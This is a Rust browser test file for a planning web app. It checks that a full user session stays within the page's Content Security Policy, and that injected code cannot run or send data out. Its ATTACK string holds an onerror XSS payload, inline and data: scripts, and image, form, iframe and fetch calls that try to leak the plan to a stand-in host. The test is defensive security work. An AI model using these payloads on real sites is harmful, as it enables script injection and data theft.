//! What the page may run and ask for: its own program, and nothing else.

use planerka_browser_tests::{Open, Page, single_page};
use serde_json::{Value, json};

/// Collects everything the browser refuses, from before the page's first line on.
const WATCH: &str = "window.refused = [];
    addEventListener('securitypolicyviolation', (e) => refused.push(e.violatedDirective + ' ' + e.blockedURI));";

/// Every request the page has made since it was opened.
fn requests(page: &Page) -> Vec<String> {
    let names = page.eval("performance.getEntriesByType('resource').map((one) => one.name)");
    let names = names.as_array().into_iter().flatten().filter_map(Value::as_str);
    names.filter(|name| !name.starts_with("data:") && !name.starts_with("blob:")).map(str::to_owned).collect()
}

/// What a person does in a few minutes: every view, menus, edits, the clipboard, files, print.
fn session(page: &Page) {
    page.enter("Target, €", "9m");
    page.push("Reps");
    page.push("Week");
    page.push("Setup");
    page.push("Plan");
    let sheet = page.sheet();
    sheet.enter("Harper", "Q1", "500000");
    sheet.element("Harper", "Q1").click();
    page.press("Ctrl+c");
    page.press("F2");
    page.press("Escape");
    page.press("Ctrl+z");
    page.eval("window.print = () => {}");
    page.push("RU");
    page.push("EN");
    page.push("Theme: light or dark");
    let file = page.download(|| page.press("Ctrl+s"));
    page.give(&file);
    page.says("This plan is in the browser already.");
    page.push("Cancel (Esc)");
    page.saved();
}

#[test]
fn a_whole_session_is_within_the_policy_and_asks_for_nothing_after_the_load() {
    let page = Open::new().today("2026-11-21").before(WATCH).page();
    let loaded = requests(&page);
    assert_eq!(loaded.iter().filter(|name| name.contains("_bg.wasm")).count(), 1, "{loaded:?}");
    session(&page);
    assert_eq!(page.eval("refused"), json!([]));
    assert_eq!(requests(&page), loaded);
    page.quiet();
    drop(page);

    let page = Open::file(&single_page()).today("2026-11-21").before(WATCH).page();
    session(&page);
    assert_eq!((page.eval("refused"), requests(&page)), (json!([]), Vec::new()));
    assert_eq!(page.console_errors(), Vec::<String>::new());
}

/// Tries from inside the page what an attacker would, in a task of the page's own (`DevTools` is above the policy).
const ATTACK: &str = "new Promise((done) => setTimeout(() => {
    const said = {};
    try { said.eval = (0, eval)('1 + 1'); } catch (e) { said.eval = e.name; }
    try { said.made = new Function('return 2')(); } catch (e) { said.made = e.name; }
    const add = (tag, fill) => { const e = document.createElement(tag); fill(e); document.body.append(e); };
    add('script', (e) => { e.textContent = 'window.injected = true'; });
    add('script', (e) => { e.src = 'data:text/javascript,window.injected=true'; });
    add('div', (e) => { e.innerHTML = '<img src=x onerror=\"window.injected = true\">'; });
    add('img', (e) => { e.src = 'https://example.invalid/secret?plan=1'; });
    add('iframe', (e) => { e.src = 'https://example.invalid/'; });
    add('form', (e) => { e.action = 'https://example.invalid/'; setTimeout(() => e.submit()); });
    add('base', (e) => { e.href = 'https://example.invalid/'; });
    said.base = document.baseURI === location.href;
    const elsewhere = fetch('https://example.invalid/').then(() => 'sent', (e) => e.name);
    elsewhere.then((fetched) => done({ ...said, fetched }));
}))";

/// How many scripts were refused, not counting texts that were to become code.
const SCRIPTS: &str =
    "refused.filter((one) => one.startsWith('script-src') && !one.endsWith(' eval')).length";

#[test]
fn nothing_that_is_put_into_the_page_runs_or_leaves_it() {
    for open in [Open::new(), Open::file(&single_page())] {
        let page = open.before(WATCH).page();
        let said = page.eval(ATTACK);
        let wanted = json!({"eval": "EvalError", "made": "EvalError", "base": true, "fetched": "TypeError"});
        assert_eq!(said, wanted);
        for directive in ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "script-src"] {
            let refused = format!("refused.some((one) => one.startsWith('{directive}'))");
            page.until(directive, || page.eval(&refused) == true);
        }
        // An inline script, one by its address, and a handler of an image that does not load.
        page.until("every script", || page.eval(SCRIPTS).as_u64() >= Some(3));
        assert_eq!(page.eval("window.injected ?? false"), false);
        page.says("Plan");
    }
}
